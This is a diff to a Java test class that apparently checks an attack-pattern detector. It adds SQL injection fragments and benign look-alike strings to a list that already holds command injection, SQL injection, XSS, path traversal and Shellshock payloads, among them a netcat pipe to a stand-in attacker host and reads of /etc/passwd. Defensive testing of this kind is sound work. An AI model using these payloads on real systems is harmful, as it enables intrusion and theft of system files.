@@ -81,7 +81,9 @@ class AttackPatternsTest {
                 "a|wget http://x.example/a", "a& curl https://x.example", "x\ncat /etc/hosts", "a;  ls -la;", "a ; id;",
                 "a;idea", "C:/Windows/System32/x", "c:\\windows\\win.ini", "windows 11", "/.env", "a/../b/../c",
                 "x ${ifs} y", "cmd /c dir", "() { :; }; echo", "a{b;c}", "$(whoami)", "sleep;5", "x || ping -c 1 host",
-                "text/html;charset=utf-8", "javascript:void(0)", "o'reilly; drop", "\"a\";\"b\""));
+                "text/html;charset=utf-8", "javascript:void(0)", "o'reilly; drop", "\"a\";\"b\"",
+                "/users/7/profile?sort=order", "a=b or", "x=1 and", "1 or\t1=1", "1 AND\n2=2", "x into outfile '/tmp/x'",
+                "1 into dumpfile '/tmp/y'", "load_file('/etc/hosts')", "mobile=1 order=2"));
         values.addAll(List.of("' or 1=1--", "admin'--", "1;--", "1; DROP TABLE users", "1 union/**/select 1",
                 "%27%20OR%201%3D1--", "<svg/onload=alert(1)>", "..%2f..%2fboot.ini", "....//....//etc/passwd",
                 "x;cat /etc/passwd", "127.0.0.1 | id", "a && whoami", "`id`", "x | nc evil.example 4444",
